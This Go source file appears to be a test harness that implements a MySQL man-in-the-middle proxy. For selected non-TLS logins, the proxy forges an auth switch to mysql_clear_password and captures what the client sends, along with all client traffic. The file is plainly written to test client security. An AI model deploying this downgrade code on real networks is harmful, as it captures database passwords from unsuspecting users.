package harness

import (
	"bytes"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"testing"
)

// MySQLMITM is a man in the middle between MySQL clients and a server, as
// an attacker on the path would be when the link is not TLS: it relays
// every connection, except those whose login Attack selects, to which it
// answers in the server's name with an auth switch to
// mysql_clear_password. It records every byte clients sent.
type MySQLMITM struct {
	Addr string

	upstream string
	attack   func(Login) bool
	l        net.Listener
	mu       sync.Mutex
	wire     bytes.Buffer
	attacked int
	answers  [][]byte // what attacked clients sent after the switch
}

// Login is a client's handshake response as the man in the middle reads
// it.
type Login struct {
	User  string
	Attrs map[string]string // connection attributes, e.g. _client_role
}

// StartMySQLMITM listens on loopback in front of upstream (host:port).
func StartMySQLMITM(t testing.TB, upstream string, attack func(Login) bool) *MySQLMITM {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	m := &MySQLMITM{Addr: l.Addr().String(), upstream: upstream, attack: attack, l: l}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go m.relay(c)
		}
	}()
	return m
}

// Wire returns every byte clients sent so far.
func (m *MySQLMITM) Wire() []byte {
	m.mu.Lock()
	defer m.mu.Unlock()
	return bytes.Clone(m.wire.Bytes())
}

// Attacked is how many logins got the auth switch, and what those
// clients sent after it (each connection's bytes, once it closed).
func (m *MySQLMITM) Attacked() (int, [][]byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.attacked, append([][]byte(nil), m.answers...)
}

type recordingConn struct {
	net.Conn
	m *MySQLMITM
}

func (r recordingConn) Read(p []byte) (int, error) {
	n, err := r.Conn.Read(p)
	r.m.mu.Lock()
	r.m.wire.Write(p[:n])
	r.m.mu.Unlock()
	return n, err
}

func (m *MySQLMITM) relay(raw net.Conn) {
	client := recordingConn{Conn: raw, m: m}
	defer raw.Close()
	server, err := net.Dial("tcp", m.upstream)
	if err != nil {
		return
	}
	defer server.Close()
	greeting, err := readPacket(server)
	if err != nil {
		return
	}
	if _, err := raw.Write(greeting); err != nil {
		return
	}
	login, err := readPacket(client)
	if err != nil {
		return
	}
	payload := login[4:]
	const clientSSL = 0x800
	if len(payload) >= 4 && binary.LittleEndian.Uint32(payload)&clientSSL == 0 {
		if l, ok := parseLogin(payload); ok && m.attack(l) {
			m.mu.Lock()
			m.attacked++
			m.mu.Unlock()
			sw := append([]byte{0xfe}, "mysql_clear_password\x00"...)
			hdr := []byte{byte(len(sw)), 0, 0, login[3] + 1}
			if _, err := raw.Write(append(hdr, sw...)); err != nil {
				return
			}
			answer, _ := io.ReadAll(client)
			m.mu.Lock()
			m.answers = append(m.answers, answer)
			m.mu.Unlock()
			return
		}
	}
	// Relay (TLS included: then the man in the middle sees only records).
	if _, err := server.Write(login); err != nil {
		return
	}
	done := make(chan struct{})
	go func() { _, _ = io.Copy(raw, server); raw.Close(); close(done) }()
	_, _ = io.Copy(server, client)
	server.Close()
	<-done
}

func readPacket(r io.Reader) ([]byte, error) {
	hdr := make([]byte, 4)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, err
	}
	p := make([]byte, 4+(int(hdr[0])|int(hdr[1])<<8|int(hdr[2])<<16))
	copy(p, hdr)
	_, err := io.ReadFull(r, p[4:])
	return p, err
}

// parseLogin reads the user and connection attributes of a protocol-41
// handshake response.
func parseLogin(p []byte) (Login, bool) {
	const (
		capConnectWithDB = 0x8
		capPluginAuth    = 0x80000
		capConnectAttrs  = 0x100000
		capLenencAuth    = 0x200000
	)
	if len(p) < 32 {
		return Login{}, false
	}
	caps := binary.LittleEndian.Uint32(p)
	pos := 32
	nul := bytes.IndexByte(p[pos:], 0)
	if nul < 0 {
		return Login{}, false
	}
	l := Login{User: string(p[pos : pos+nul]), Attrs: map[string]string{}}
	pos += nul + 1
	if caps&capLenencAuth != 0 {
		n, w := lenenc(p[pos:])
		pos += w + int(n)
	} else if pos < len(p) {
		pos += 1 + int(p[pos])
	}
	if caps&capConnectWithDB != 0 && pos < len(p) {
		if i := bytes.IndexByte(p[pos:], 0); i >= 0 {
			pos += i + 1
		}
	}
	if caps&capPluginAuth != 0 && pos < len(p) {
		if i := bytes.IndexByte(p[pos:], 0); i >= 0 {
			pos += i + 1
		}
	}
	if caps&capConnectAttrs != 0 && pos < len(p) {
		total, w := lenenc(p[pos:])
		pos += w
		end := min(pos+int(total), len(p))
		for pos < end {
			kn, kw := lenenc(p[pos:])
			k := string(p[pos+kw : min(pos+kw+int(kn), end)])
			pos += kw + int(kn)
			if pos >= end {
				break
			}
			vn, vw := lenenc(p[pos:])
			l.Attrs[k] = string(p[pos+vw : min(pos+vw+int(vn), end)])
			pos += vw + int(vn)
		}
	}
	return l, true
}

func lenenc(b []byte) (uint64, int) {
	if len(b) == 0 {
		return 0, 0
	}
	switch b[0] {
	case 0xfc:
		if len(b) >= 3 {
			return uint64(binary.LittleEndian.Uint16(b[1:])), 3
		}
	case 0xfd:
		if len(b) >= 4 {
			return uint64(b[1]) | uint64(b[2])<<8 | uint64(b[3])<<16, 4
		}
	case 0xfe:
		if len(b) >= 9 {
			return binary.LittleEndian.Uint64(b[1:]), 9
		}
	default:
		return uint64(b[0]), 1
	}
	return 0, len(b)
}
